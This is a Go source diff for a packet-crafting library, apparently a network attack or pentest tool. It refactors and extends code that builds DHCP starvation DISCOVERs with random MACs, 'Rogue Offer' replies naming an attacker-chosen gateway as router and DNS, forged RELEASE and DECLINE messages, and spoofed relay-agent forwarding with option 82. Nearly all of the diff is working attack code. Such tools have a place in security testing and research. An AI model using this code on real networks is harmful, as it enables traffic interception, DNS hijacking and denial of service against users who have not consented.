@@ -9,14 +9,79 @@ import (
 	"github.com/google/gopacket/layers"
 )
 
-func init() {
-	rand.Seed(time.Now().UnixNano())
-}
-
 // CraftDHCPDiscover creates a DHCP starvaion packet (Discover with random MAC/XID).
 func CraftDHCPDiscover(srcMAC net.HardwareAddr) ([]byte, error) {
+	return clientMessage{mac: srcMAC, xid: rand.Uint32(), msgType: layers.DHCPMsgTypeDiscover}.craft()
+}
+
+// CraftDHCPRequest creates the broadcast REQUEST that accepts the offer of requestedIP by serverID.
+func CraftDHCPRequest(srcMAC net.HardwareAddr, xid uint32, requestedIP, serverID net.IP) ([]byte, error) {
+	return clientMessage{mac: srcMAC, xid: xid, msgType: layers.DHCPMsgTypeRequest, options: []layers.DHCPOption{
+		layers.NewDHCPOption(layers.DHCPOptRequestIP, requestedIP.To4()),
+		layers.NewDHCPOption(layers.DHCPOptServerID, serverID.To4()),
+	}}.craft()
+}
+
+// CraftDHCPRelease creates the RELEASE of clientIP, unicast from the client to the server.
+func CraftDHCPRelease(srcMAC net.HardwareAddr, clientIP, serverIP net.IP, serverMAC net.HardwareAddr) ([]byte, error) {
+	return clientMessage{mac: srcMAC, xid: rand.Uint32(), msgType: layers.DHCPMsgTypeRelease, ciaddr: clientIP,
+		to: &unicast{mac: serverMAC, ip: serverIP}, options: []layers.DHCPOption{
+			layers.NewDHCPOption(layers.DHCPOptServerID, serverIP.To4()),
+		}}.craft()
+}
+
+// CraftDHCPDecline creates the broadcast DECLINE telling serverID that requestedIP is already in use.
+func CraftDHCPDecline(srcMAC net.HardwareAddr, xid uint32, requestedIP, serverID net.IP) ([]byte, error) {
+	return clientMessage{mac: srcMAC, xid: xid, msgType: layers.DHCPMsgTypeDecline, options: []layers.DHCPOption{
+		layers.NewDHCPOption(layers.DHCPOptRequestIP, requestedIP.To4()),
+		layers.NewDHCPOption(layers.DHCPOptServerID, serverID.To4()),
+	}}.craft()
+}
+
+// Relay makes client messages look forwarded by a relay agent: they are unicast from
+// the agent address (giaddr) to the server, with a relay agent information option 82.
+type Relay struct {
+	AgentIP  net.IP // giaddr, the server answers to it
+	AgentMAC net.HardwareAddr
+	ServerIP net.IP
+	// NextHop is the MAC of the server, or of the router towards it
+	NextHop   net.HardwareAddr
+	CircuitID []byte
+	RemoteID  []byte
+}
+
+// agentInfo encodes option 82 with its circuit-id and remote-id suboptions (RFC 3046)
+func (r *Relay) agentInfo() []byte {
+	var b []byte
+	if len(r.CircuitID) > 0 {
+		b = append(append(b, 1, byte(len(r.CircuitID))), r.CircuitID...)
+	}
+	if len(r.RemoteID) > 0 {
+		b = append(append(b, 2, byte(len(r.RemoteID))), r.RemoteID...)
+	}
+	return b
+}
+
+// unicast is the destination of a client message sent to a known server
+type unicast struct {
+	mac net.HardwareAddr
+	ip  net.IP
+}
+
+// clientMessage is a message sent by the client mac, broadcast unless it is sent to a known server or through a relay
+type clientMessage struct {
+	mac     net.HardwareAddr
+	xid     uint32
+	msgType layers.DHCPMsgType
+	ciaddr  net.IP // the client's current address, nil while it has none
+	to      *unicast
+	relay   *Relay
+	options []layers.DHCPOption
+}
+
+func (c clientMessage) craft() ([]byte, error) {
 	eth := layers.Ethernet{
-		SrcMAC:       srcMAC,
+		SrcMAC:       c.mac,
 		DstMAC:       net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
 		EthernetType: layers.EthernetTypeIPv4,
 	}
@@ -33,29 +98,49 @@ func CraftDHCPDiscover(srcMAC net.HardwareAddr) ([]byte, error) {
 		SrcPort: 68,
 		DstPort: 67,
 	}
-	udp.SetNetworkLayerForChecksum(&ip)
 
-	xid := rand.Uint32()
+	options := []layers.DHCPOption{
+		{
+			Type:   layers.DHCPOptMessageType,
+			Length: 1,
+			Data:   []byte{byte(c.msgType)},
+		},
+	}
+	options = append(options, c.options...)
 
 	dhcp := layers.DHCPv4{
 		Operation:    layers.DHCPOpRequest,
 		HardwareType: layers.LinkTypeEthernet,
 		HardwareLen:  6,
-		Xid:          xid,
-		ClientHWAddr: srcMAC,
-		Options: []layers.DHCPOption{
-			{
-				Type:   layers.DHCPOptMessageType,
-				Length: 1,
-				Data:   []byte{byte(layers.DHCPMsgTypeDiscover)},
-			},
-			{
-				Type:   layers.DHCPOptEnd,
-				Length: 0,
-			},
-		},
+		Xid:          c.xid,
+		ClientIP:     c.ciaddr,
+		ClientHWAddr: c.mac,
 	}
 
+	switch {
+	case c.relay != nil:
+		eth.SrcMAC = c.relay.AgentMAC
+		eth.DstMAC = c.relay.NextHop
+		ip.SrcIP = c.relay.AgentIP
+		ip.DstIP = c.relay.ServerIP
+		udp.SrcPort = 67
+		dhcp.HardwareOpts = 1 // hops
+		dhcp.RelayAgentIP = c.relay.AgentIP
+		if info := c.relay.agentInfo(); len(info) > 0 {
+			options = append(options, layers.NewDHCPOption(OptRelayAgentInfo, info))
+		}
+	case c.to != nil:
+		eth.DstMAC = c.to.mac
+		ip.SrcIP = c.ciaddr
+		ip.DstIP = c.to.ip
+	}
+	udp.SetNetworkLayerForChecksum(&ip)
+
+	dhcp.Options = append(options, layers.DHCPOption{
+		Type:   layers.DHCPOptEnd,
+		Length: 0,
+	})
+
 	buf := gopacket.NewSerializeBuffer()
 	opts := gopacket.SerializeOptions{
 		FixLengths:       true,
@@ -70,8 +155,40 @@ func CraftDHCPDiscover(srcMAC net.HardwareAddr) ([]byte, error) {
 	return buf.Bytes(), nil
 }
 
-// CraftDHCPOffer creates a Rogue Offer.
+// CraftDHCPOffer creates a Rogue Offer with a /24 mask, gatewayIP as router and DNS and a one day lease.
 func CraftDHCPOffer(srcMAC, dstMAC net.HardwareAddr, serverIP, offeredIP, gatewayIP net.IP, xid uint32) ([]byte, error) {
+	opts := Options{
+		Mask:      net.CIDRMask(24, 32),
+		Routers:   []net.IP{gatewayIP},
+		DNS:       []net.IP{gatewayIP},
+		LeaseTime: 24 * time.Hour,
+	}
+	return CraftDHCPOfferWithOptions(srcMAC, dstMAC, serverIP, offeredIP, xid, opts)
+}
+
+// CraftDHCPOfferWithOptions creates a broadcast Rogue Offer carrying opts.
+func CraftDHCPOfferWithOptions(srcMAC, dstMAC net.HardwareAddr, serverIP, offeredIP net.IP, xid uint32, opts Options) ([]byte, error) {
+	req := &layers.DHCPv4{Xid: xid, Flags: broadcastFlag, ClientHWAddr: dstMAC}
+	return CraftReply(srcMAC, serverIP, req, layers.DHCPMsgTypeOffer, offeredIP, opts)
+}
+
+// broadcastFlag is set by clients that cannot receive unicast before they are configured
+const broadcastFlag = 0x8000
+
+// CraftReply creates a server reply of type msgType to the client request req, offering yiaddr.
+// It is sent to the client MAC and address unless the client asked for broadcast replies or is refused.
+// A nil yiaddr answers an INFORM: the options are sent to the client's own address, without a lease time.
+func CraftReply(srcMAC net.HardwareAddr, serverIP net.IP, req *layers.DHCPv4, msgType layers.DHCPMsgType, yiaddr net.IP, opts Options) ([]byte, error) {
+	dstMAC := req.ClientHWAddr
+	dstIP := yiaddr
+	if yiaddr == nil {
+		dstIP = req.ClientIP
+	}
+	if req.Flags&broadcastFlag != 0 || msgType == layers.DHCPMsgTypeNak || dstIP == nil || dstIP.IsUnspecified() {
+		dstMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
+		dstIP = net.IPv4bcast
+	}
+
 	eth := layers.Ethernet{
 		SrcMAC:       srcMAC,
 		DstMAC:       dstMAC,
@@ -82,7 +199,7 @@ func CraftDHCPOffer(srcMAC, dstMAC net.HardwareAddr, serverIP, offeredIP, gatewa
 		Version:  4,
 		TTL:      64,
 		SrcIP:    serverIP,
-		DstIP:    net.IPv4bcast,
+		DstIP:    dstIP,
 		Protocol: layers.IPProtocolUDP,
 	}
 
@@ -96,54 +213,31 @@ func CraftDHCPOffer(srcMAC, dstMAC net.HardwareAddr, serverIP, offeredIP, gatewa
 		Operation:    layers.DHCPOpReply,
 		HardwareType: layers.LinkTypeEthernet,
 		HardwareLen:  6,
-		Xid:          xid,
-		ClientHWAddr: dstMAC,
-		YourClientIP: offeredIP,
-		Options: []layers.DHCPOption{
-			{
-				Type:   layers.DHCPOptMessageType,
-				Length: 1,
-				Data:   []byte{byte(layers.DHCPMsgTypeOffer)},
-			},
-			{
-				Type:   layers.DHCPOptSubnetMask,
-				Length: 4,
-				Data:   []byte{255, 255, 255, 0},
-			},
-			{
-				Type:   layers.DHCPOptRouter,
-				Length: 4,
-				Data:   gatewayIP.To4(),
-			},
-			{
-				Type:   layers.DHCPOptDNS,
-				Length: 4,
-				Data:   gatewayIP.To4(),
-			},
-			{
-				Type:   layers.DHCPOptServerID,
-				Length: 4,
-				Data:   serverIP.To4(),
-			},
-			{
-				Type:   layers.DHCPOptLeaseTime,
-				Length: 4,
-				Data:   []byte{0x00, 0x01, 0x51, 0x80},
-			},
-			{
-				Type:   layers.DHCPOptEnd,
-				Length: 0,
-			},
-		},
+		Xid:          req.Xid,
+		Flags:        req.Flags,
+		ClientIP:     req.ClientIP,
+		YourClientIP: yiaddr,
+		NextServerIP: serverIP,
+		ClientHWAddr: req.ClientHWAddr,
+		File:         []byte(opts.BootFile),
+		Options:      opts.encode(msgType, serverIP, yiaddr != nil),
+	}
+	if tftp := net.ParseIP(opts.TFTPServer).To4(); tftp != nil {
+		dhcp.NextServerIP = tftp
+	}
+	if msgType == layers.DHCPMsgTypeNak {
+		dhcp.ClientIP = nil
+		dhcp.NextServerIP = nil
+		dhcp.File = nil
 	}
 
 	buf := gopacket.NewSerializeBuffer()
-	opts := gopacket.SerializeOptions{
+	serializeOpts := gopacket.SerializeOptions{
 		FixLengths:       true,
 		ComputeChecksums: true,
 	}
 
-	err := gopacket.SerializeLayers(buf, opts, &eth, &ip, &udp, &dhcp)
+	err := gopacket.SerializeLayers(buf, serializeOpts, &eth, &ip, &udp, &dhcp)
 	if err != nil {
 		return nil, err
 	}